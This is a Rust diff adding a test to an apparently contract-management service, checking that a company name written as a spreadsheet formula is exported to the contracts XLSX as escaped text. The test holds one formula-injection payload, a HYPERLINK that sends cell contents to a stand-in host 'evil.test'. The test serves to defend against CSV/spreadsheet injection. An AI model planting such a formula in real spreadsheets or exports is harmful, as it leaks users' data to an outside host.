@@ -874,3 +874,26 @@ async fn a_snapshot_of_a_full_book_streams_in_bounded_memory() {
     assert_eq!(contracts, 150_000);
     assert!(most < before + 200, "the snapshot is streamed, not held: {before} -> {most} MB");
 }
+
+#[tokio::test]
+async fn a_company_named_like_a_formula_is_text_in_the_contracts_spreadsheet() {
+    use calamine::{Reader, Xlsx};
+    let app = spawn_app().await;
+    let payload = "=HYPERLINK(\"http://evil.test?x=\"&A1,\"Click\")";
+    let company_id = app.company(payload, 0).await;
+    let account = app.account(company_id, "F-1", AccountCommodity::Electric, "1000").await;
+    let contract = Contract { company_id, account_ids: vec![account], ..electric(&book_of(company_id, account)) };
+    app.create(&app.management, contract, false).await.unwrap();
+    let request =
+        authed(&app.management, eris_proto::contracts::v1::ExportContractsRequest { company_id, filter: None });
+    let file = app.contracts().export_contracts(request).await.unwrap().into_inner();
+    let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(file.content)).unwrap();
+    let sheet = workbook.worksheet_range("Contracts").unwrap();
+    let company = sheet.get((1, 0)).map(ToString::to_string).unwrap();
+    assert_eq!(company, format!("'{payload}"), "shown as text, never run");
+}
+
+/// A book of one company and one electric account.
+fn book_of(company_id: i64, account: i64) -> Book {
+    Book { company_id, electric: [account, account], gas: 0 }
+}
